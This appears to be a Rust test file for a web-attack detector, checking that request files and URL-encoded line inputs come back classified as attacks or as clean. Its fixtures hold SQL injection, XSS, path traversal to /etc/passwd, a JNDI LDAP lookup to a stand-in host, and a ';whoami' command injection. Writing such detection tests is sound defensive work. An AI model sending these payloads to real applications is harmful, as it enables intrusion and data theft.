//! `lookout scan requests`: raw request files, directories and `--lines` inputs in, one
//! JSON line per request or input out, in order, with the kind and decoded evidence;
//! malformed requests are reported by reason, not dropped silently.

use std::process::Command;

fn scan(args: &[&str]) -> (Vec<serde_json::Value>, String, bool) {
    let out = Command::new(env!("CARGO_BIN_EXE_lookout"))
        .arg("scan")
        .arg("requests")
        .args(args)
        .output()
        .unwrap();
    let lines = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    (
        lines,
        String::from_utf8_lossy(&out.stderr).into_owned(),
        out.status.success(),
    )
}

#[test]
fn raw_requests_in_a_directory() {
    let dir = tempfile::tempdir().unwrap();
    let sub = dir.path().join("b");
    std::fs::create_dir(&sub).unwrap();
    std::fs::write(
        dir.path().join("a.req"),
        "GET /search?q=shoes HTTP/1.1\r\nHost: x\r\n\r\n",
    )
    .unwrap();
    std::fs::write(
        sub.join("c.req"),
        "POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nuser=admin%27--&pw=x",
    )
    .unwrap();
    std::fs::write(
        sub.join("d.req"),
        "GET /x HTTP/1.1\r\nCookie: s=%2527%2520or%25201%253D1--\r\n\r\n",
    )
    .unwrap();
    std::fs::write(sub.join("e.req"), "\u{1}\u{2} not a request").unwrap();
    let (lines, stderr, ok) = scan(&[dir.path().to_str().unwrap()]);
    assert!(ok, "{stderr}");
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert!(lines[0]["input"].as_str().unwrap().ends_with("a.req"));
    assert_eq!(lines[0]["attack"], false);
    assert_eq!(lines[0]["kind"], serde_json::Value::Null);
    assert_eq!(lines[1]["attack"], true);
    assert_eq!(lines[1]["kind"], "sqli");
    assert_eq!(lines[1]["location"], "body:user");
    assert_eq!(lines[2]["kind"], "sqli");
    assert!(
        lines[2]["evidence"].as_str().unwrap().contains("or 1=1"),
        "{:?}",
        lines[2]
    );
    assert!(stderr.contains("e.req: bad request line"), "{stderr}");
    assert!(stderr.contains("bad_request_line 1"), "{stderr}");
}

#[test]
fn lines_mode_keeps_order_across_threads() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("inputs.txt");
    let mut text = String::new();
    for i in 0..5000 {
        match i % 5 {
            0 => text.push_str("%3Cscript%3Ealert(1)%3C%2Fscript%3E\n"),
            1 => text.push_str("..%2F..%2F..%2Fetc%2Fpasswd\n"),
            2 => text.push_str("%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D\n"),
            3 => text.push_str("8.8.8.8%3Bwhoami\n"),
            _ => text.push_str(&format!("plain+text+{i}\n")),
        }
    }
    std::fs::write(&path, text).unwrap();
    let (lines, stderr, ok) = scan(&["--lines", "--threads", "3", path.to_str().unwrap()]);
    assert!(ok, "{stderr}");
    assert_eq!(lines.len(), 5000);
    for (i, l) in lines.iter().enumerate() {
        let want = ["xss", "traversal", "ssti", "cmdi", ""][i % 5];
        if want.is_empty() {
            assert_eq!(l["attack"], false, "{l}");
            assert_eq!(l["input"], format!("plain+text+{i}"));
        } else {
            assert_eq!(l["kind"], want, "line {i}: {l}");
            let score = l["score"].as_f64().unwrap();
            assert!((0.6..=1.0).contains(&score));
        }
    }
    assert!(
        stderr.contains("scanned 5000 inputs: 4000 attacks"),
        "{stderr}"
    );
}

#[test]
fn a_missing_path_is_an_error_naming_it() {
    let (_, stderr, ok) = scan(&["/nonexistent/requests"]);
    assert!(!ok);
    assert!(stderr.contains("/nonexistent/requests"), "{stderr}");
}
